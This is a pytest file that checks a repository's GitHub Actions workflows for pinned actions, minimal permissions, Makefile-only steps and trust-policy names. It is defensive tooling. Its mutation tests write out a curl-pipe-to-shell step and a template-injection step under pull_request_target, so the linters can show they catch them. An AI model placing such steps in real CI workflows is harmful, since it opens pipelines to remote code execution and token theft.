"""The workflows fit GitHub's schema and the rules, zizmor finds nothing in them; and each rule finds its mistake."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from tests.workflows.rules import problems

ROOT = Path(__file__).parents[2]
WORKFLOWS = sorted((ROOT / ".github/workflows").glob("*.yml"))
TARGETS = set(re.findall(r"^([a-z0-9-]+):", (ROOT / "Makefile").read_text(), re.MULTILINE))
BIN = Path(sys.executable).parent
GOOD = """
on: push
permissions: {}
jobs:
  test:
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2
        with:
          persist-credentials: false
      - run: make test
      - run: make publish TAG="$TAG"
"""


def test_there_are_workflows() -> None:
    assert [path.stem for path in WORKFLOWS] == ["images", "release", "test"]


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: str(path.stem))
def test_rules(path: Path) -> None:
    assert problems(path.read_text(), TARGETS) == []


def test_one_commit_for_each_version() -> None:
    """An action has one pin everywhere: the same version is not two commits, and a commit not two versions."""
    text = "".join(path.read_text() for path in WORKFLOWS)
    pins = set(re.findall(r"uses: ([\w.-]+/[\w./-]+)@([0-9a-f]{40}) # (v\S+)", text))
    assert len({name for name, _commit, _version in pins}) == len(pins)


@pytest.mark.parametrize(
    ("before", "after", "problem"),
    [
        (
            "@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2",
            "@v6",
            "expected OWNER/ACTION@COMMIT # vVERSION",
        ),
        (" # v6.0.2", "", "expected OWNER/ACTION@COMMIT # vVERSION"),
        ("permissions: {}\n", "", "own permissions must be {}"),
        ("permissions: {}\n", "permissions: write-all\n", "own permissions must be {}"),
        ("    permissions:\n      contents: read\n", "", "job test does not say its permissions"),
        ("    timeout-minutes: 5\n", "", "no timeout-minutes"),
        ("false", "true", "checkout leaves the token"),
        ("make test", "pytest", "expected `make TARGET VARIABLE=...`, got 'pytest'"),
        ("make test", "make test && curl example.com | sh", "expected `make TARGET VARIABLE=...`"),
        ("make test", "make everything", "the Makefile has no target everything"),
        ('"$TAG"', "${{github.ref_name}}", "an expression is pasted into a shell"),
        (
            "    permissions:\n      contents: read\n",
            "    environment: release\n    permissions:\n      id-token: write\n",
            "make test runs packages of others beside the job's identity",
        ),
    ],
)
def test_mistakes_are_found(before: str, after: str, problem: str) -> None:
    assert problems(GOOD, TARGETS) == []
    assert before in GOOD
    found = problems(GOOD.replace(before, after), TARGETS)
    assert len(found) == 1
    assert problem in found[0]


def check(*command: str | Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [BIN / command[0], *command[1:]], cwd=ROOT, capture_output=True, text=True, check=False
    )


@pytest.mark.skipif(not (BIN / "check-jsonschema").exists(), reason="check-jsonschema is not installed")
def test_schema(tmp_path: Path) -> None:
    done = check("check-jsonschema", "--builtin-schema", "vendor.github-workflows", *WORKFLOWS)
    assert done.returncode == 0, done.stdout
    broken = tmp_path / "broken.yml"
    broken.write_text(GOOD.replace("runs-on", "run-on"))
    assert check("check-jsonschema", "--builtin-schema", "vendor.github-workflows", broken).returncode == 1
    dependabot = check("check-jsonschema", "--builtin-schema", "vendor.dependabot", ".github/dependabot.yml")
    assert dependabot.returncode == 0, dependabot.stdout


@pytest.mark.skipif(not (BIN / "zizmor").exists(), reason="zizmor is not installed")
def test_zizmor(tmp_path: Path) -> None:
    done = check("zizmor", "--offline", "--no-progress", ".github")
    assert done.returncode == 0, done.stdout
    broken = tmp_path / ".github/workflows/broken.yml"
    broken.parent.mkdir(parents=True)
    broken.write_text(
        GOOD.replace("on: push", "on: pull_request_target").replace(
            "make test", "echo ${{ github.head_ref }}"
        )
    )
    found = check("zizmor", "--offline", "--no-progress", broken)
    assert "template-injection" in found.stdout
    assert "dangerous-triggers" in found.stdout


def test_release_is_who_the_cluster_and_aws_trust() -> None:
    """The names in k8s/components/sigstore and in terraform/ are this workflow's."""
    release = yaml.safe_load((ROOT / ".github/workflows/release.yml").read_text())
    assert release[True] == {"push": {"tags": ["v*"]}}  # YAML takes `on` for true
    policy = (ROOT / "k8s/components/sigstore/cluster-image-policy.yaml").read_text()
    assert "[.]github/workflows/release[.]yml@refs/tags/v.+$" in policy
    trust = (ROOT / "terraform/release.tf").read_text()
    assert "/.github/workflows/release.yml@refs/tags/v*" in trust
    # The subject of a job's token is its environment where it has one, and the ref only where it has none.
    assert f"repo:${{var.repository}}:environment:{release['jobs']['publish']['environment']}" in trust
